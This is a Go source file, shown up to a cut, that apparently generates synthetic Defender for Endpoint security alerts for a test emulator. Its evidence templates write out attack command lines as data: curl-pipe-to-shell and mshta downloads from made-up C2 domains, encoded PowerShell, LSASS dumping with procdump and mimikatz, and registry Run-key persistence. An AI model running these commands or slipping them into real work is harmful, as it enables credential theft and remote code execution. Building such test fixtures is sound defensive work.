package emulator

import (
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"time"
)

// alertGen makes realistic alerts for one tenant: what detects what, with
// which MITRE techniques, threat names and evidence, on which machines, by
// whom triaged. It changes the alert set's counters (incident and
// investigation ids), so it is used under the alert set's lock.
type alertGen struct {
	rng      *rand.Rand
	p        *profile
	tenantID string
	set      *alertSet
	machines []*machine
	byID     map[string]*machine // built on first use
}

// alertTemplate is one kind of detection.
type alertTemplate struct {
	weight      int
	source      string
	category    string
	title       string
	description string
	severity    []weighted[string]
	mitre       []string
	family      string // threatFamilyName; "" null
	threat      string // threatName; "" null
	detector    string // detectorId: one GUID per detection, as the service has
	platforms   []family
	idPrefix    string // "da" for most; "ar" for automated investigation
	evidence    func(g *alertGen, c *alertCtx)
}

// alertCtx is what a template's evidence builder works with.
type alertCtx struct {
	a     *alert
	m     *machine // nil: the alert's machine is unknown to the tenant
	user  tenantUser
	at    time.Time // evidence creation time
	first time.Time // first event
}

var (
	sevHigh   = []weighted[string]{{"High", 80}, {"Medium", 20}}
	sevMedium = []weighted[string]{{"Medium", 70}, {"High", 15}, {"Low", 15}}
	sevLow    = []weighted[string]{{"Low", 70}, {"Medium", 20}, {"Informational", 10}}
	sevInfo   = []weighted[string]{{"Informational", 90}, {"Low", 10}}
	windows   = []family{winClient, winServer}
	anyOS     = []family{winClient, winServer, linux, mac}
	unixLike  = []family{linux, mac}
)

const avDescription = "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions on affected machines. Some of these undesirable applications can replicate and spread from one machine to another. Others are able to receive commands from remote attackers and perform activities associated with cyber attacks.\n\nThis detection might indicate that the malware was stopped from delivering its payload. However, it is prudent to check the machine for signs of infection."

var alertTemplates = []alertTemplate{
	{weight: 12, source: "WindowsDefenderAv", category: "Malware", title: "'Wacatac' malware was prevented", description: avDescription,
		severity: sevMedium, family: "Wacatac", threat: "Trojan:Win32/Wacatac.B!ml", detector: "d60f5b90-ecd8-4d77-8186-a801597ec762", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			f := g.dropper(c)
			g.addFile(c, f, "Prevented")
		}},
	{weight: 8, source: "WindowsDefenderAv", category: "Malware", title: "An active 'Emotet' malware was blocked",
		description: avDescription + "\n\nA malware is considered active if it is found running on the machine or it already has persistence mechanisms in place. Active malware detections are assigned higher severity ratings.",
		severity:    sevHigh, mitre: []string{"T1204.002", "T1059.005"}, family: "Emotet", threat: "Trojan:Win32/Emotet.ARJ!MTB", detector: "0b5a8f1d-7a3c-4f0e-9c7d-3e1f2a4b6c8d", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			doc := g.userFile(c, "Invoice_"+strconv.Itoa(1000+g.rng.IntN(9000))+".docm", `Downloads`)
			g.addFile(c, doc, "Blocked")
			g.addProcess(c, lolbin("winword.exe"), `"WINWORD.EXE" /n "`+doc.path+`\`+doc.name+`"`, lolbin("explorer.exe"), "Blocked")
			g.addUser(c)
			g.addNetwork(c, true)
		}},
	{weight: 4, source: "WindowsDefenderAv", category: "Malware", title: "'EICAR_Test_File' malware was detected", description: avDescription,
		severity: sevInfo, family: "EICAR_Test_File", threat: "Virus:DOS/EICAR_Test_File", detector: "12cfe475-4973-4a03-ad53-60dca8bf9d3d", platforms: anyOS,
		evidence: func(g *alertGen, c *alertCtx) {
			g.addFile(c, g.userFile(c, "eicar.com.txt", "Downloads"), "Detected")
		}},
	{weight: 3, source: "WindowsDefenderAv", category: "Ransomware", title: "Ransomware behavior was blocked",
		description: "A process exhibited behavior associated with ransomware: it encrypted or renamed a large number of files in a short time. The process was stopped and its changes were rolled back where possible.",
		severity:    sevHigh, mitre: []string{"T1486", "T1490"}, family: "Ryuk", threat: "Ransom:Win32/Ryuk.PA!MTB", detector: "3f9a1c2e-5b7d-4e8f-a1c3-5d7e9f1b3a5c", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			f := fileSpec{name: "svcupd.exe", path: `C:\ProgramData\Microsoft\Crypto\RSA`}
			g.addFile(c, f, "Blocked")
			g.addProcess(c, f, f.path+`\`+f.name+` -r -e .ryk`, lolbin("cmd.exe"), "Blocked")
			g.addRegistry(c, `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "svcupd", `"`+f.path+`\`+f.name+`"`)
			g.addUser(c)
		}},
	{weight: 14, source: "WindowsDefenderAtp", category: "Execution", title: "Suspicious PowerShell command line",
		description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system. Attackers usually use PowerShell to bypass security protection mechanisms by executing their payload in memory without touching the disk and leaving any trace.",
		severity:    sevMedium, mitre: []string{"T1059.001", "T1027", "T1105"}, detector: "7f1c3d5e-9a2b-4c6d-8e0f-1a3b5c7d9e2f", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			host := g.pick(c2Domains)
			g.addProcess(c, lolbin("powershell.exe"), `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand `+g.base64ish(120), lolbin("cmd.exe"), "")
			g.addUser(c)
			g.addURL(c, "https://"+host+"/"+g.word()+".ps1")
			g.relateDomain(c, host)
		}},
	{weight: 10, source: "WindowsDefenderAtp", category: "Execution", title: "Low-reputation arbitrary code executed by signed executable",
		description: "Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process. As a result, the trusted process might exhibit suspicious behaviors, such as opening a listening port or connecting to a command-and-control (C&C) server.",
		severity:    sevLow, mitre: []string{"T1064", "T1085", "T1220"}, detector: "17e10bbc-3a68-474a-8aad-faef14d43952", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			dll := fileSpec{name: g.word() + ".dll", path: `c:\temp`}
			g.addUser(c)
			g.addProcess(c, lolbin("rundll32.exe"), `rundll32.exe  `+dll.path+`\`+dll.name+`,RepeatAfterMe`, lolbin("rundll32.exe"), "Detected")
			g.addFile(c, dll, "Detected")
		}},
	{weight: 6, source: "WindowsDefenderAtp", category: "CredentialAccess", title: "Suspicious access to LSASS service",
		description: "A process accessed the memory of the Local Security Authority Subsystem Service (LSASS) in a way that is typical of credential theft tools. Attackers read LSASS memory to obtain credentials of users who signed in to the machine and use them to move laterally.",
		severity:    sevHigh, mitre: []string{"T1003.001"}, detector: "b3d6e9f2-1c4a-4b7e-9d2f-6a8c1e3b5d7f", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			tool := fileSpec{name: "procdump64.exe", path: `C:\Users\Public`}
			g.addProcess(c, tool, tool.name+` -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp`, lolbin("cmd.exe"), "Detected")
			g.addFile(c, fileSpec{name: "lsass.dmp", path: `C:\Users\Public`}, "")
			g.addUser(c)
		}},
	{weight: 3, source: "WindowsDefenderAv", category: "CredentialAccess", title: "'Mimikatz' credential theft tool",
		description: "The credential theft tool Mimikatz was detected on this machine. Mimikatz extracts passwords, hashes, PINs and Kerberos tickets from memory and is used by attackers to move laterally.",
		severity:    sevHigh, mitre: []string{"T1003"}, family: "Mimikatz", threat: "HackTool:Win32/Mimikatz!pz", detector: "5c2e7a9b-3d1f-4e6a-8b0c-2d4f6a8c0e1b", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			f := fileSpec{name: "mimikatz.exe", path: `C:\Users\Public\Tools`}
			g.addFile(c, f, "Blocked")
			g.addProcess(c, f, `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, lolbin("cmd.exe"), "Blocked")
			g.addUser(c)
		}},
	{weight: 6, source: "WindowsDefenderAtp", category: "Persistence", title: "Anomaly detected in ASEP registry",
		description: "A process registered a suspicious command or file in an autostart extensibility point (ASEP) registry key, so that it runs every time the machine starts or a user signs in. Attackers use ASEPs to survive reboots.",
		severity:    sevMedium, mitre: []string{"T1547.001", "T1112"}, detector: "e4a7c0d3-6f9b-4a2c-8e5d-7b1f3c5e7a9d", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			f := g.dropper(c)
			g.addProcess(c, lolbin("reg.exe"), `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveUpdate /t REG_SZ /d "`+f.path+`\`+f.name+`" /f`, lolbin("powershell.exe"), "")
			g.addRegistry(c, `HKEY_CURRENT_USER\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run`, "OneDriveUpdate", f.path+`\`+f.name)
			g.addFile(c, f, "")
			g.addUser(c)
		}},
	{weight: 5, source: "WindowsDefenderAtp", category: "DefenseEvasion", title: "Suspicious process injection observed",
		description: "A process injected code into another process, a technique attackers use to run malicious code under the identity of a legitimate process and evade security products.",
		severity:    sevHigh, mitre: []string{"T1055", "T1055.012"}, detector: "a1c3e5f7-2b4d-4f6a-9c8e-0d2f4a6c8e0a", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			f := g.dropper(c)
			g.addProcess(c, f, `"`+f.path+`\`+f.name+`"`, lolbin("explorer.exe"), "Detected")
			g.addProcess(c, lolbin("svchost.exe"), `C:\Windows\system32\svchost.exe -k netsvcs -p`, lolbin("services.exe"), "")
			g.addUser(c)
		}},
	{weight: 4, source: "WindowsDefenderAtp", category: "LateralMovement", title: "Suspicious remote service creation",
		description: "A service was created on this machine from a remote machine, in a way typical of lateral movement tools such as PsExec. Attackers use remote services to run code on other machines with the credentials they stole.",
		severity:    sevMedium, mitre: []string{"T1021.002", "T1569.002"}, detector: "c7e9a1b3-4d6f-4a8c-9e0b-2c4e6a8c0e2d", platforms: []family{winServer, winClient},
		evidence: func(g *alertGen, c *alertCtx) {
			g.addProcess(c, fileSpec{name: "PSEXESVC.exe", path: `C:\Windows`}, `C:\Windows\PSEXESVC.exe`, lolbin("services.exe"), "")
			g.addRegistry(c, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\PSEXESVC`, "ImagePath", `%SystemRoot%\PSEXESVC.exe`)
			g.addIP(c, g.internalIP(c))
			g.addUser(c)
		}},
	{weight: 7, source: "WindowsDefenderAtp", category: "Discovery", title: "Suspicious sequence of exploration activities",
		description: "A process called a set of windows commands. These commands can be used by attackers in order to identify assets of value and coordinate lateral movement after compromising a machine.",
		severity:    sevLow, mitre: []string{"T1087", "T1069", "T1016", "T1082", "T1049"}, detector: "9d1f3b5a-7c9e-4b1d-8f3a-5c7e9b1d3f5a", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			g.addProcess(c, lolbin("net.exe"), `net  group "domain admins" /domain`, lolbin("cmd.exe"), "")
			g.addProcess(c, lolbin("whoami.exe"), `whoami  /all`, lolbin("cmd.exe"), "")
			g.addProcess(c, lolbin("ipconfig.exe"), `ipconfig  /all`, lolbin("cmd.exe"), "")
			g.addUser(c)
		}},
	{weight: 8, source: "CustomerTI", category: "CommandAndControl", title: "Connection to a custom network indicator",
		description: "An endpoint has connected to a URL or domain that your organization has added to its custom indicator list.",
		severity:    sevInfo, detector: "8c9a2e1f-4b6d-4f3a-9e1c-7d5b3a1f9e2c", platforms: anyOS,
		evidence: func(g *alertGen, c *alertCtx) {
			host := g.pick(c2Domains)
			g.addURL(c, host)
			g.addProcess(c, g.browser(c), g.browser(c).name, lolbin("explorer.exe"), "")
			g.addURL(c, "https://"+host+"/"+g.word())
			g.addUser(c)
			g.relateDomain(c, host)
			g.addNetwork(c, false)
		}},
	{weight: 5, source: "WindowsDefenderAtp", category: "CommandAndControl", title: "Communication with a known command and control server",
		description: "A process on this machine communicated with an IP address or domain that Microsoft threat intelligence associates with command and control infrastructure.",
		severity:    sevHigh, mitre: []string{"T1071.001", "T1573"}, detector: "4e6a8c0e-2d4f-4a6c-8e0a-1b3d5f7a9c1e", platforms: anyOS,
		evidence: func(g *alertGen, c *alertCtx) {
			f := g.dropper(c)
			g.addProcess(c, f, f.name, g.shell(c), "")
			g.addNetwork(c, true)
			g.addUser(c)
		}},
	{weight: 4, source: "WindowsDefenderSmartScreen", category: "InitialAccess", title: "Suspicious URL clicked",
		description: "A user opened a link that SmartScreen flags as phishing. The page may try to harvest credentials or deliver malware.",
		severity:    sevMedium, mitre: []string{"T1566.002"}, detector: "2b4d6f8a-0c2e-4a6c-8e1a-3c5e7a9c1e3b", platforms: []family{winClient},
		evidence: func(g *alertGen, c *alertCtx) {
			host := g.pick(phishingDomains)
			g.addURL(c, "https://"+host+"/login?session="+g.hex(16))
			g.addProcess(c, lolbin("msedge.exe"), `"msedge.exe" --single-argument https://`+host+`/`, lolbin("outlook.exe"), "")
			g.addUser(c)
			g.relateDomain(c, host)
		}},
	{weight: 4, source: "AutomatedInvestigation", category: "SuspiciousActivity", title: "Automated investigation started manually",
		description: "An administrator initiated an Automated investigation on this machine.\n    The investigation automatically identifies and reviews threat artifacts for possible remediation.",
		severity:    sevInfo, detector: "5c6b7d86-c91f-4f8c-8aec-9d2086f46527", platforms: windows, idPrefix: "ar",
		evidence: func(g *alertGen, c *alertCtx) {
			g.addIP(c, opt[string]{}) // the live capture: Ip evidence without an address
		}},
	{weight: 4, source: "CustomDetection", category: "SuspiciousActivity", title: "Rare remote administration tool executed",
		description: "Custom detection rule \"Rare RMM tools\" matched: a remote monitoring and management tool that is not approved in this organization was executed.",
		severity:    sevMedium, mitre: []string{"T1219"}, detector: "6d8f0a2c-4e6a-4c8e-9a0c-4e6a8c0e2a4c", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			f := g.userFile(c, "AnyDesk.exe", "Downloads")
			g.addProcess(c, f, `"`+f.path+`\`+f.name+`" --start-with-win --silent`, lolbin("explorer.exe"), "")
			g.addFile(c, f, "")
			g.addUser(c)
		}},
	{weight: 5, source: "CustomerTI", category: "SuspiciousActivity", title: "File blocked by a custom indicator",
		description: "A file that your organization has added to its custom indicator list with the Block and remediate action was found on the machine and remediated.",
		severity:    sevLow, detector: "1f3a5c7e-9b1d-4f3a-8c5e-7a9c1e3b5d7f", platforms: anyOS,
		evidence: func(g *alertGen, c *alertCtx) {
			g.addFile(c, g.dropper(c), "Remediated")
			g.addUser(c)
		}},
	{weight: 5, source: "WindowsDefenderAtp", category: "Exploit", title: "Suspicious behavior by Microsoft Office application",
		description: "A Microsoft Office application started a process or dropped a file in a way that is typical of exploits and malicious macros. This may indicate that the user opened a weaponized document.",
		severity:    sevMedium, mitre: []string{"T1203", "T1204.002", "T1566.001"}, detector: "8a0c2e4a-6c8e-4a0c-9e2a-6c8e0a2c4e6a", platforms: []family{winClient},
		evidence: func(g *alertGen, c *alertCtx) {
			doc := g.userFile(c, "Quote_"+g.word()+".xlsm", "Downloads")
			g.addFile(c, doc, "")
			g.addProcess(c, lolbin("excel.exe"), `"EXCEL.EXE" "`+doc.path+`\`+doc.name+`"`, lolbin("explorer.exe"), "")
			g.addProcess(c, lolbin("mshta.exe"), `mshta.exe https://`+g.pick(c2Domains)+`/`+g.word()+`.hta`, lolbin("excel.exe"), "Blocked")
			g.addUser(c)
		}},
	{weight: 4, source: "WindowsDefenderAtp", category: "Execution", title: "Suspicious shell command execution", mitre: []string{"T1059.004", "T1105"},
		description: "A shell downloaded and ran a script from the internet. Attackers use this to fetch and start their tools on Linux and macOS machines.",
		severity:    sevMedium, detector: "0e2a4c6e-8a0c-4e2a-9c4e-8a0c2e4a6c8e", platforms: unixLike,
		evidence: func(g *alertGen, c *alertCtx) {
			host := g.pick(c2Domains)
			g.addProcess(c, fileSpec{name: "bash", path: "/usr/bin"}, `bash -c "curl -fsSL https://`+host+`/i.sh | sh"`, fileSpec{name: "sshd", path: "/usr/sbin"}, "")
			g.addProcess(c, fileSpec{name: "curl", path: "/usr/bin"}, `curl -fsSL https://`+host+`/i.sh`, fileSpec{name: "bash", path: "/usr/bin"}, "")
			g.addURL(c, "https://"+host+"/i.sh")
			g.relateDomain(c, host)
			g.addUser(c)
		}},
	{weight: 3, source: "WindowsDefenderAv", category: "Malware", title: "'CoinMiner' malware was detected", description: avDescription,
		severity: sevMedium, mitre: []string{"T1496"}, family: "CoinMiner", threat: "Trojan:Linux/CoinMiner.B!MTB", detector: "c1e3a5c7-9e1b-4d3f-8a5c-9e1b3d5f7a9c", platforms: []family{linux},
		evidence: func(g *alertGen, c *alertCtx) {
			f := fileSpec{name: "kworkerds", path: "/tmp/.X11-unix"}
			g.addFile(c, f, "Detected")
			g.addProcess(c, f, f.path+"/"+f.name+" -o stratum+tcp://"+g.pick(c2Domains)+":3333", fileSpec{name: "bash", path: "/usr/bin"}, "Detected")
			g.addNetwork(c, true)
		}},
	{weight: 2, source: "ThreatExperts", category: "SuspiciousActivity", title: "Microsoft Defender Experts: hands-on-keyboard activity",
		description: "Microsoft Defender Experts observed activity on this machine that is consistent with a human operator exploring the network with stolen credentials. Review the machine timeline and contain the machine if the activity is not expected.",
		severity:    sevHigh, mitre: []string{"T1078", "T1021.001", "T1087.002"}, detector: "e5a7c9e1-3b5d-4f7a-9c1e-3b5d7f9a1c3e", platforms: windows,
		evidence: func(g *alertGen, c *alertCtx) {
			g.addUser(c)
			g.addIP(c, g.externalIP())
			g.addProcess(c, lolbin("mstsc.exe"), `mstsc.exe /v:`+g.internalIP(c).V, lolbin("explorer.exe"), "")
		}},
}

// fileSpec names a file: its name and directory.
type fileSpec struct{ name, path string }

var lolbins = map[string]string{
	"powershell.exe": `C:\Windows\System32\WindowsPowerShell\v1.0`,
	"cmd.exe":        `C:\Windows\System32`, "rundll32.exe": `C:\Windows\System32`, "reg.exe": `C:\Windows\System32`,
	"net.exe": `C:\Windows\System32`, "whoami.exe": `C:\Windows\System32`, "ipconfig.exe": `C:\Windows\System32`,
	"mshta.exe": `C:\Windows\System32`, "svchost.exe": `C:\Windows\System32`, "services.exe": `C:\Windows\System32`,
	"mstsc.exe": `C:\Windows\System32`, "explorer.exe": `C:\Windows`,
	"winword.exe": `C:\Program Files\Microsoft Office\root\Office16`,
	"excel.exe":   `C:\Program Files\Microsoft Office\root\Office16`,
	"outlook.exe": `C:\Program Files\Microsoft Office\root\Office16`,
	"msedge.exe":  `C:\Program Files (x86)\Microsoft\Edge\Application`,
	"Safari":      `/Applications/Safari.app/Contents/MacOS`,
	"firefox":     `/usr/lib/firefox`,
	"zsh":         `/bin`,
	"bash":        `/usr/bin`,
}

func lolbin(name string) fileSpec { return fileSpec{name: name, path: lolbins[name]} }

var (
	c2Domains = []string{"cdn-update-check.net", "telemetry-msft-sync.com", "static.files-share.org", "api.graph-updates.info",
		"secure-docs-view.com", "ns1.dnscache-resolve.net", "update.winsvc-cdn.com", "img.tracking-pixel.io"}
	phishingDomains = []string{"login-microsoftonline.support", "sharepoint-docs-review.com", "office365-verify.net", "docusign-envelope.info"}
	droppers        = []string{"update.exe", "svchost32.exe", "AdobeUpdater.exe", "OneDriveSetup_x64.exe", "payload.dll", "setup_crack.exe", "chrome_installer.exe"}
	words           = []string{"alpha", "report", "q3", "draft", "budget", "invoice", "payroll", "update", "tools", "backup", "stage", "load"}
	surnames        = []string{"smith", "garcia", "chen", "mueller", "rossi", "kowalski", "nguyen", "patel", "johnson", "silva", "ivanova", "okafor", "tanaka", "dubois"}
)

func (g *alertGen) pick(list []string) string { return list[g.rng.IntN(len(list))] }
func (g *alertGen) word() string              { return g.pick(words) }

func (g *alertGen) hex(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = hexDigits[g.rng.IntN(16)]
	}
	return string(b)
}

func (g *alertGen) base64ish(n int) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[g.rng.IntN(len(alphabet))]
	}
	return string(b) + "=="
}

// tenantUser is a user of the organisation as alerts show them.
type tenantUser struct {
	account, domain, upn, sid, aadID string
}

// user returns one of the organisation's users, the same person for the
// same draw: the account, its NetBIOS domain, UPN, SID and Entra object id
// all agree.
func (g *alertGen) user() tenantUser {
	first := firstNames[g.rng.IntN(len(firstNames))]
	last := surnames[g.rng.IntN(len(surnames))]
	account := first[:1] + last
	org, _, _ := strings.Cut(g.p.tenantDomain, ".")
	return tenantUser{
		account: account,
		domain:  strings.ToUpper(org[:min(len(org), 15)]), // the NetBIOS name

		upn:   account + "@" + org + ".com",
		sid:   domainSID(org) + "-" + strconv.FormatUint(1100+uint64(seedFromString(account))%90000, 10),
		aadID: guidFromBytes(digest(sha256.New(), "aad:"+account+"@"+org)),
	}
}

// domainSID is the organisation's Active Directory domain SID.
func domainSID(org string) string {
	part := func(salt string) string {
		return strconv.FormatUint(1_000_000_000+uint64(seedFromString(salt+org))%3_000_000_000, 10)
	}
	return "S-1-5-21-" + part("a") + "-" + part("b") + "-" + part("c")
}

// digest is a deterministic hash of what a thing is: the same file has the
// same hashes on every machine and in every alert.
func digest(h hash.Hash, s string) []byte {
	h.Write([]byte("mdebridge-emulator:" + s))
	return h.Sum(nil)
}

func fileSHA1(f fileSpec) string {
	return hex.EncodeToString(digest(sha1.New(), strings.ToLower(f.name)))
}
func fileSHA256(f fileSpec) string {
	return hex.EncodeToString(digest(sha256.New(), strings.ToLower(f.name)))
}

// userFile is a file in the user's profile, laid out for the machine's OS.
func (g *alertGen) userFile(c *alertCtx, name, sub string) fileSpec {
	switch g.family(c) {
	case linux:
		return fileSpec{name: name, path: "/home/" + c.user.account + "/" + strings.ToLower(sub)}
	case mac:
		return fileSpec{name: name, path: "/Users/" + c.user.account + "/" + sub}
	}
	return fileSpec{name: name, path: `C:\Users\` + c.user.account + `\` + sub}
}

func (g *alertGen) dropper(c *alertCtx) fileSpec {
	switch g.family(c) {
	case linux:
		return fileSpec{name: "." + g.word(), path: "/var/tmp"}
	case mac:
		return fileSpec{name: "Updater", path: "/Users/" + c.user.account + "/Library/Application Support/." + g.word()}
	}
	name := g.pick(droppers)
	if g.rng.IntN(2) == 0 {
		return g.userFile(c, name, `AppData\Local\Temp`)
	}
	return fileSpec{name: name, path: `C:\ProgramData\` + g.word()}
}

func (g *alertGen) browser(c *alertCtx) fileSpec {
	switch g.family(c) {
	case linux:
		return lolbin("firefox")
	case mac:
		return lolbin("Safari")
	}
	return lolbin("msedge.exe")
}

func (g *alertGen) shell(c *alertCtx) fileSpec {
	switch g.family(c) {
	case linux:
		return lolbin("bash")
	case mac:
		return lolbin("zsh")
	}
	return lolbin("cmd.exe")
}

func (g *alertGen) family(c *alertCtx) family {
	if c.m == nil {
		return winClient
	}
	return platformFamily(c.m.OSPlatform)
}

func platformFamily(osPlatform string) family {
	p := strings.ToLower(osPlatform)
	switch {
	case strings.HasPrefix(p, "windowsserver"):
		return winServer
	case strings.HasPrefix(p, "windows"):
		return winClient
	case p == "macos":
		return mac
	}
	return linux
}

// blank is an evidence entry with every key present and null.
func (g *alertGen) blank(c *alertCtx, entityType string) evidence {
	c.at = c.at.Add(time.Duration(g.rng.IntN(900)) * time.Millisecond)
	return evidence{EntityType: entityType, EvidenceCreationTime: sqlDatetime(c.at)}
}

func (g *alertGen) addFile(c *alertCtx, f fileSpec, status string) {
	e := g.blank(c, "File")
	e.SHA1, e.FileName, e.FilePath = some(fileSHA1(f)), some(f.name), some(f.path)
	if g.rng.IntN(4) > 0 { // the service does not always have the SHA-256
		e.SHA256 = some(fileSHA256(f))
	}
	if status != "" {
		e.DetectionStatus = some(status)
	}
	c.a.Evidence = append(c.a.Evidence, e)
}

func (g *alertGen) addProcess(c *alertCtx, image fileSpec, cmdline string, parent fileSpec, status string) {
	e := g.blank(c, "Process")
	e.SHA1, e.SHA256 = some(fileSHA1(image)), some(fileSHA256(image))
	e.FileName, e.FilePath = some(image.name), some(image.path)
	e.ProcessID, e.ProcessCommandLine = some(int64(4+4*g.rng.IntN(8000))), some(cmdline)
	start := c.first.Add(-time.Duration(g.rng.IntN(3000)) * time.Millisecond)
	e.ProcessCreationTime = start.Truncate(100 * time.Nanosecond)
	e.ParentProcessID = some(int64(4 + 4*g.rng.IntN(8000)))
	e.ParentProcessCreationTime = start.Add(-time.Duration(1+g.rng.IntN(600_000)) * time.Millisecond).Truncate(100 * time.Nanosecond)
	e.ParentProcessFileName, e.ParentProcessFilePath = some(parent.name), some(parent.path)
	// Live process evidence names the account the process ran as.
	e.AccountName, e.DomainName, e.UserSID = some(c.user.account), some(c.user.domain), some(c.user.sid)
	if status != "" {
		e.DetectionStatus = some(status)
	}
	c.a.Evidence = append(c.a.Evidence, e)
}

func (g *alertGen) addUser(c *alertCtx) {
	e := g.blank(c, "User")
	e.AccountName, e.DomainName, e.UserSID = some(c.user.account), some(c.user.domain), some(c.user.sid)
	if g.family(c) != linux {
		e.AADUserID, e.UserPrincipalName = some(c.user.aadID), some(c.user.upn)
	}
	c.a.Evidence = append(c.a.Evidence, e)
}

func (g *alertGen) addIP(c *alertCtx, ip opt[string]) {
	e := g.blank(c, "Ip")
	e.IPAddress = ip
	c.a.Evidence = append(c.a.Evidence, e)
}

func (g *alertGen) addURL(c *alertCtx, u string) {
	e := g.blank(c, "Url")
	e.URL = some(u)
	c.a.Evidence = append(c.a.Evidence, e)
}

func (g *alertGen) addRegistry(c *alertCtx, key, name, value string) {
	e := g.blank(c, "Registry")
	hive, rest, _ := strings.Cut(key, `\`)
	e.RegistryKey, e.RegistryHive = some(rest), some(hive)
	e.RegistryValueName, e.RegistryValue, e.RegistryValueType = some(name), some(value), some("String")
	c.a.Evidence = append(c.a.Evidence, e)
}

// addNetwork records the remote end of a connection: an IP evidence entry
// when asked, and the address among the alert's related IPs either way.
func (g *alertGen) addNetwork(c *alertCtx, asEvidence bool) {
	ip := g.externalIP()
	if asEvidence {
		g.addIP(c, ip)
	}
	c.a.relatedIPs = append(c.a.relatedIPs, ip.V)
}

func (g *alertGen) relateDomain(c *alertCtx, host string) {
	c.a.relatedDomains = append(c.a.relatedDomains, host)
}

func (g *alertGen) externalIP() opt[string] {
	firsts := []int{45, 91, 185, 193, 194, 103, 141}
	return some(fmt.Sprintf("%d.%d.%d.%d", firsts[g.rng.IntN(len(firsts))], g.rng.IntN(256), g.rng.IntN(256), 1+g.rng.IntN(254)))
}

func (g *alertGen) internalIP(c *alertCtx) opt[string] {
	if len(g.p.sites) == 0 {
		return some("10.0.0." + strconv.Itoa(1+g.rng.IntN(254)))
	}
	s := g.p.sites[g.rng.IntN(len(g.p.sites))]
	return some(fmt.Sprintf("10.%d.%d.%d", s.octet, g.rng.IntN(256), 1+g.rng.IntN(254)))
}

// alertID makes an id in one of the service's forms:
// da637472900382838869_1364969609 (the creation time in .NET ticks), the
// newer da0c7e089d-5ff6-4e04-8000-17f4e35fa783_1, or ar… for automated
// investigation.
func (g *alertGen) alertID(prefix string, created time.Time) string {
	if prefix == "" {
		prefix = "da"
	}
	if prefix == "da" && g.rng.IntN(10) < 4 {
		return prefix + randomGUID(g.rng) + "_1"
	}
	ticks := created.UnixNano()/100 + 621_355_968_000_000_000
	return prefix + strconv.FormatInt(ticks, 10) + "_" + strconv.FormatInt(int64(int32(g.rng.Uint32())), 10)
}

// newAlertOptions shape one generated alert.
type newAlertOptions struct {
	created   time.Time // alertCreationTime
	template  *alertTemplate
	machine   *machine // nil: pick one
	noMachine bool     // a machine the tenant does not know (offboarded, merged)
}

// newAlert makes one alert, New and untriaged, created at o.created. Its
// lastUpdateTime is set by the caller.
func (g *alertGen) newAlert(o newAlertOptions) *alert {
	r := g.rng
	m := o.machine
	if m == nil && !o.noMachine && len(g.machines) > 0 {
		m = g.machines[r.IntN(len(g.machines))]
	}
	tpl := o.template
	if tpl == nil {
		tpl = g.template(m)
	}
	created := o.created.UTC().Truncate(100 * time.Nanosecond)
	lastEvent := created.Add(-time.Duration(30+r.IntN(600)) * time.Second).Truncate(100 * time.Nanosecond)
	first := lastEvent.Add(-time.Duration(r.IntN(300)) * time.Second).Truncate(100 * time.Nanosecond)
	a := &alert{
		ID: g.alertID(tpl.idPrefix, created), Severity: pick(r, tpl.severity), Status: "New",
		DetectionSource: tpl.source, DetectorID: tpl.detector, Category: tpl.category,
		Title: tpl.title, Description: tpl.description,
		AlertCreationTime: created, FirstEventTime: first, LastEventTime: lastEvent,
		AADTenantID: g.tenantID, MitreTechniques: append([]string{}, tpl.mitre...),
		LoggedOnUsers: []alertUser{}, Comments: []alertComment{}, Evidence: []evidence{}, Domains: []json.RawMessage{},
	}
	if tpl.family != "" {
		a.ThreatFamilyName = some(tpl.family)
	}
	if tpl.threat != "" {
		a.ThreatName = some(tpl.threat)
	}
	if m != nil {
		a.MachineID, a.ComputerDNSName, a.RBACGroupName = m.ID, some(m.ComputerDNSName), m.RBACGroupName
	} else {
		a.MachineID = g.hex(40)
		a.ComputerDNSName = some("desktop-" + randomLower(r, 7))
	}
	a.IncidentID = some(g.incidentFor(a.MachineID, created))
	g.investigation(a, m)

	c := &alertCtx{a: a, m: m, user: g.user(), at: created, first: first}
	if fam := g.family(c); fam != linux && r.IntN(10) < 6 {
		a.LoggedOnUsers = append(a.LoggedOnUsers, alertUser{Name: c.user.account, Domain: c.user.domain})
	}
	tpl.evidence(g, c)
	// relatedUser is the account the detection is about, when there is one.
	for _, e := range a.Evidence {
		if e.EntityType == "User" && e.AccountName.OK && r.IntN(10) < 8 {
			a.RelatedUser = &alertUser{Name: e.AccountName.V, Domain: e.DomainName.V}
			break
		}
	}
	return a
}

// template picks a detection that fits the machine's platform.
func (g *alertGen) template(m *machine) *alertTemplate {
	fam := winClient
	if m != nil {
		fam = platformFamily(m.OSPlatform)
	}
	var choices []weighted[int]
	for i, t := range alertTemplates {
		for _, p := range t.platforms {
			if p == fam {
				choices = append(choices, weighted[int]{i, t.weight})
				break
